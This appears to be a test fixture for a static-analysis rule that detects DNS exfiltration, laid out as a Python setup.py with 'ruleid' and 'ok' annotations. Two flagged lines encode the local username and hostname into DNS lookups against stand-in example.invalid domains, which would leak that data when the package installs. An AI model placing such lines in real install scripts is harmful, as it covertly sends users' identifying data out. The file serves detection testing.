import getpass
import socket

from setuptools import setup

# ruleid: dns-exfiltration
socket.gethostbyname(getpass.getuser().encode().hex() + ".x.example.invalid")

# ok: dns-exfiltration
LOCAL_IP = socket.gethostbyname(socket.gethostname())

# ok: dns-exfiltration
socket.getaddrinfo("pypi.example.invalid", 443)

# The user name in an f-string: the text is not known, the data is.
# ruleid: dns-exfiltration
socket.getaddrinfo(f"{getpass.getuser()}.{socket.gethostname()}.u.example.invalid", 80)

# ok: dns-exfiltration
ADDRS = socket.getaddrinfo(socket.gethostname(), None)

setup(name="demo-fixture", version="0.1", packages=["pkg"])
